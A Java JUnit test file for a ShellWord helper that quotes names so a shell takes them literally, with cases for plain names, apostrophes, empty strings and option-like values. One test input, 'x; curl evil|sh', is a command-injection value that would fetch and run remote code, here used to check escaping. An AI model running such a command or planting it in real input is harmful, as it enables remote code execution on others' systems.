package dev.holdfast.cli;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Names as words that a shell takes as they are. */
class ShellWordTest {
    @Test
    void aPlainNameStaysAsItIs() {
        assertThat(ShellWord.of("order:42/item-7.b")).isEqualTo("order:42/item-7.b");
    }

    @Test
    void whatAShellWouldObeyIsQuoted() {
        assertThat(ShellWord.of("x; curl evil|sh")).isEqualTo("'x; curl evil|sh'");
        assertThat(ShellWord.of("it's")).isEqualTo("'it'\\''s'");
        assertThat(ShellWord.of("")).isEqualTo("''");
    }

    @Test
    void whatLooksLikeAnOptionComesBehindTwoDashes() {
        assertThat(ShellWord.of("--now")).isEqualTo("-- '--now'");
    }
}
